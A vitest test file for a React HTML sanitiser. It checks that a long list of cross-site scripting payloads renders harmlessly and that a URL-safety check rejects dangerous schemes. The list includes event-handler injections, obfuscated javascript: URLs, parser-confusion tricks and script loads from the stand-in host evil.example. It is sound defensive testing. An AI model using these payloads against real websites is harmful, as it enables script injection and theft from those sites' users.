import { type Element, isTag, type ParentNode } from 'domhandler';
import { parseDocument } from 'htmlparser2';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { InlineProse } from './inline-prose.tsx';
import { Prose } from './prose.tsx';
import { isSafeHref, sanitizeProse } from './sanitize.ts';

const TAGS = new Set(
  (
    'div section p br strong b em i s u sub sup small abbr a ul ol li blockquote cite q h2 h3 h4 h5 h6 hr figure figcaption img ' +
    'table caption thead tbody tfoot tr th td code pre dl dt dd span'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  'class lang href target rel src alt width height loading decoding title start colspan rowspan scope aria-label tabindex'.split(
    ' ',
  ),
);

/** Script that would run shows as a call of this name outside of text. */
const X = 'alert(1)';
const PAYLOADS = [
  // Plain
  `<script>${X}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script\n\t>${X}</script\n>`,
  `<script/x>${X}</script>`,
  `<img src=x onerror=${X}>`,
  `<img src=x onerror="${X}" onload='${X}'>`,
  `<img/src=x/onerror=${X}>`,
  `<body onload=${X}><input autofocus onfocus=${X}>`,
  `<details open ontoggle=${X}><summary onclick=${X}>x</summary></details>`,
  `<video onerror=${X}><source onerror=${X}></video><audio src onloadstart=${X}>`,
  `<marquee onstart=${X}>x</marquee>`,
  `<p onclick=${X} style="background:url(javascript:${X})" class=x id=y>x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x)">x</p>`,
  `<style>@import 'https://evil.example';*{background:url(https://evil.example)}</style>`,
  `<link rel=stylesheet href=https://evil.example><base href=https://evil.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${X}">`,
  `<form action=javascript:${X}><button formaction=javascript:${X}>x</button><input type=submit></form>`,
  `<object data=javascript:${X}></object><embed src=javascript:${X}><applet code=x></applet>`,
  `<iframe src=javascript:${X}></iframe><iframe srcdoc="<script>${X}</script>"></iframe>`,
  `<frameset><frame src=javascript:${X}></frameset>`,
  // Addresses
  `<a href=javascript:${X}>x</a>`,
  `<a href="JaVaScRiPt:${X}">x</a>`,
  `<a href=" \u0001javascript:${X}">x</a>`,
  `<a href="java\tscript:${X}">x</a>`,
  `<a href="java\nscript:${X}">x</a>`,
  `<a href="java&#9;script&#58;${X}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${X}">x</a>`,
  `<a href="javascript&colon;${X}">x</a>`,
  `<a href="&Tab;java&NewLine;script:${X}">x</a>`,
  `<a href="javascript:&sol;&sol;%0a${X}">x</a>`,
  `<a href="vbscript:${X}">x</a>`,
  `<a href="data:text/html,<script>${X}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="blob:https://evil.example/x">x</a><a href="file:///etc/passwd">x</a><a href="ftp://x">x</a>`,
  `<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a>`,
  `<a href="view-source:javascript:${X}">x</a><a href="feed:javascript:${X}">x</a>`,
  `<a href="java<!-- -->script:${X}">x</a>`,
  `<a href="x" xlink:href="javascript:${X}" ping="https://evil.example" download>x</a>`,
  `<a href=x target="_top" rel="opener" onmouseover=${X}>x</a>`,
  `<a href="javascript:${X}//https://good.example">x</a>`,
  `<img src="javascript:${X}"><img src="data:image/svg+xml,<svg onload=${X}>">`,
  `<img src=x srcset="javascript:${X} 1x" lowsrc="javascript:${X}" dynsrc="javascript:${X}">`,
  `<blockquote cite="javascript:${X}">x</blockquote><q cite="javascript:${X}">x</q>`,
  `<a data-video="<script>" href="javascript:${X}">x</a>`,
  `<a data-video='YouTube" onclick="${X}' href="https://good.example/">x</a>`,
  `<iframe src="https://www.youtube.com/embed/abcdef&quot;onload=${X}"></iframe>`,
  `<iframe src="https://www.youtube.com@evil.example/embed/abcdefgh"></iframe>`,
  `<iframe src="https://youtube.com\\@evil.example/watch?v=abcdefgh"></iframe>`,
  `<oembed url="javascript:${X}//youtube.com/watch?v=abcdefgh"></oembed>`,
  // Foreign content and parsers that disagree
  `<svg onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text y=1>x</text></a></svg>`,
  `<svg><animate onbegin=${X} attributeName=href values=javascript:${X}></svg>`,
  `<svg><foreignObject><img src=x onerror=${X}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${X}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<math><mi//xlink:href="data:x,<script>${X}</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${X} src>">`,
  `<math><annotation-xml encoding="text/html"><script>${X}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${X}></style>`,
  `<textarea></textarea><img src=x onerror=${X}></textarea>`,
  `<textarea><img src=x onerror=${X}>`,
  `<textarea></textarea/><img src=x onerror=${X}>`,
  `<title></title><img src=x onerror=${X}></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${X}>"></xmp>`,
  `<xmp>&lt;/xmp&gt;<img src=x onerror=${X}></xmp>`,
  `<plaintext><img src=x onerror=${X}>`,
  `<template><img src=x onerror=${X}></template>`,
  `<select><option><img src=x onerror=${X}></option><style></select><img src=x onerror=${X}></style>`,
  `<iframe><img src=x onerror=${X}></iframe>`,
  `<iframe src="https://youtu.be/abcdefgh"><img src=x onerror=${X}></iframe>`,
  `<noembed><img src=x onerror=${X}></noembed><noframes><img src=x onerror=${X}></noframes>`,
  `<!--><img src=x onerror=${X}>-->`,
  `<!--!><img src=x onerror=${X}>--!>`,
  `<!-- --!><img src=x onerror=${X}> -->`,
  `<![CDATA[<img src=x onerror=${X}>]]>`,
  `<?xml version="1.0"?><?php <img src=x onerror=${X}> ?>`,
  `<!doctype html [<!ENTITY x "<script>${X}</script>">]>&x;`,
  // Malformed
  `<<script>${X}//<</script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<scr\u0000ipt>${X}</scr\u0000ipt>`,
  `<img src=x onerror\u0000=${X}>`,
  `<img src="x" "onerror=${X}">`,
  `<img src='x' a="'>" onerror=${X}>`,
  `<img src=x alt="\`" onerror=${X}//\`>`,
  `<img """><script>${X}</script>">`,
  `"><img src=x onerror=${X}>`,
  `'><svg/onload=${X}>`,
  `</p></div></body></html><script>${X}</script>`,
  `<p title="x" lang='"><script>${X}</script>'>x</p>`,
  `<abbr title='"><img src=x onerror=${X}>'>x</abbr>`,
  `<img alt='"><img src=x onerror=${X}>' src=x>`,
  `<td colspan="1 onclick=${X}">x</td><table><td colspan='"onclick=${X}'>x</table>`,
  `<ol start='1" onclick="${X}'><li>x</li></ol>`,
  `<table><caption>"onfocus="${X}</caption><tr><td>x</td></tr></table>`,
  `<b/onclick=${X}/>x</b><i\u000Conclick=${X}>x</i>`,
  `<a href="x"\u2028onclick=${X}>x</a>`,
  `<p/${'a'.repeat(5000)} onclick=${X}>x</p>`,
  `<div><p><a href="/x"><div><script>${X}</script></div></a><table><script>${X}</script><tr><td><svg/onload=${X}></td></tr></table>`,
  // Already escaped text stays text
  `&lt;script&gt;${X}&lt;/script&gt;`,
  `&lt;img src=x onerror=${X}&gt;`,
  `&amp;lt;img src=x onerror=${X}&amp;gt;`,
  `<code>&lt;/code&gt;&lt;script&gt;${X}&lt;/script&gt;</code>`,
  `<pre><code>&lt;img src=x onerror=${X}&gt;</code></pre>`,
  // Names that objects have by themselves
  `<constructor>x</constructor><__proto__>y</__proto__><toString>z</toString>`,
  `<p __proto__="x" constructor="y" dangerouslySetInnerHTML='{"__html":"<img src=x onerror=${X}>"}' ref="x" key="y">x</p>`,
  `<a href="/x" dangerouslysetinnerhtml="{}" children="<script>" suppresshydrationwarning>x</a>`,
];

function elementsIn(node: ParentNode): Element[] {
  const elements = node.children.filter(isTag);
  return elements.concat(elements.flatMap(elementsIn));
}

function expectHarmless(html: string): void {
  for (const element of elementsIn(parseDocument(html))) {
    expect(TAGS, html).toContain(element.name);
    for (const [name, value] of Object.entries(element.attribs)) {
      expect(ATTRIBUTES, html).toContain(name.toLowerCase());
      if (name === 'href' || name === 'src') expect(isSafeHref(value), `${html}: ${value}`).toBe(true);
      if (name === 'src') expect(value).not.toMatch(/^(?:mailto|tel|data):/i);
    }
    if (element.attribs.target) expect(element.attribs.rel).toBe('noopener noreferrer');
  }
  expect(html).not.toMatch(/<(?:script|style|svg|math|iframe|object|embed|form|input|base|meta|link|template)\b/i);
}

function render(html: string): string[] {
  const resolveHref = (href: string) => ({ href, isExternal: false });
  return (['fr-CA', 'en-CA'] as const).flatMap((locale) => [
    renderToStaticMarkup(<Prose html={html} locale={locale} headingLevel={2} resolveHref={resolveHref} />),
    renderToStaticMarkup(<InlineProse html={html} locale={locale} resolveHref={resolveHref} />),
  ]);
}

describe('Prose', () => {
  it.each(PAYLOADS)('renders nothing that can run: %s', (payload) => {
    for (const html of [payload, `<p>avant ${payload} après</p>`, `<ul><li>${payload}`, `<table><tr><td>${payload}`]) {
      for (const rendered of render(html)) expectHarmless(rendered);
    }
  });

  it('renders nothing that can run when payloads meet', () => {
    for (const [index, payload] of PAYLOADS.entries()) {
      const other = PAYLOADS[(index * 37 + 11) % PAYLOADS.length] ?? '';
      for (const rendered of render(payload + other)) expectHarmless(rendered);
      for (const rendered of render(payload.slice(0, payload.length >> 1) + other)) expectHarmless(rendered);
    }
  });

  it('comes to rest: sanitising again and again changes nothing more', () => {
    for (const payload of PAYLOADS) {
      const twice = sanitizeProse(sanitizeProse(payload));
      expect(sanitizeProse(twice), payload).toBe(twice);
    }
  });

  it('keeps escaped markup as text', () => {
    expect(render('&lt;script&gt;x&lt;/script&gt;')[1]).toBe('&lt;script&gt;x&lt;/script&gt;');
  });

  it('renders markup of any depth', () => {
    for (const tag of ['p', 'div', 'b', 'blockquote', 'ul><li', 'table><tr><td', 'a href=x', 'span', 'svg']) {
      for (const rendered of render(`${`<${tag}>`.repeat(3000)}fond`)) expectHarmless(rendered);
    }
  });
});

describe('isSafeHref', () => {
  it.each([
    'https://a.example',
    'HTTP://a',
    'mailto:a@b',
    'tel:1',
    '/a',
    'a/b',
    '?a:b',
    '#a:b',
    './a:b',
    '',
    '/a?b=javascript:c',
  ])('accepts %o', (href) => {
    expect(isSafeHref(href)).toBe(true);
  });

  it.each([
    'javascript:x',
    ' javascript:x',
    'java\tscript:x',
    '\u0000javascript:x',
    'data:x',
    'vbscript:x',
    '//a',
    '/\\a',
    '\\\\a',
    'blob:x',
    '\t//a',
  ])('refuses %o', (href) => {
    expect(isSafeHref(href)).toBe(false);
  });
});
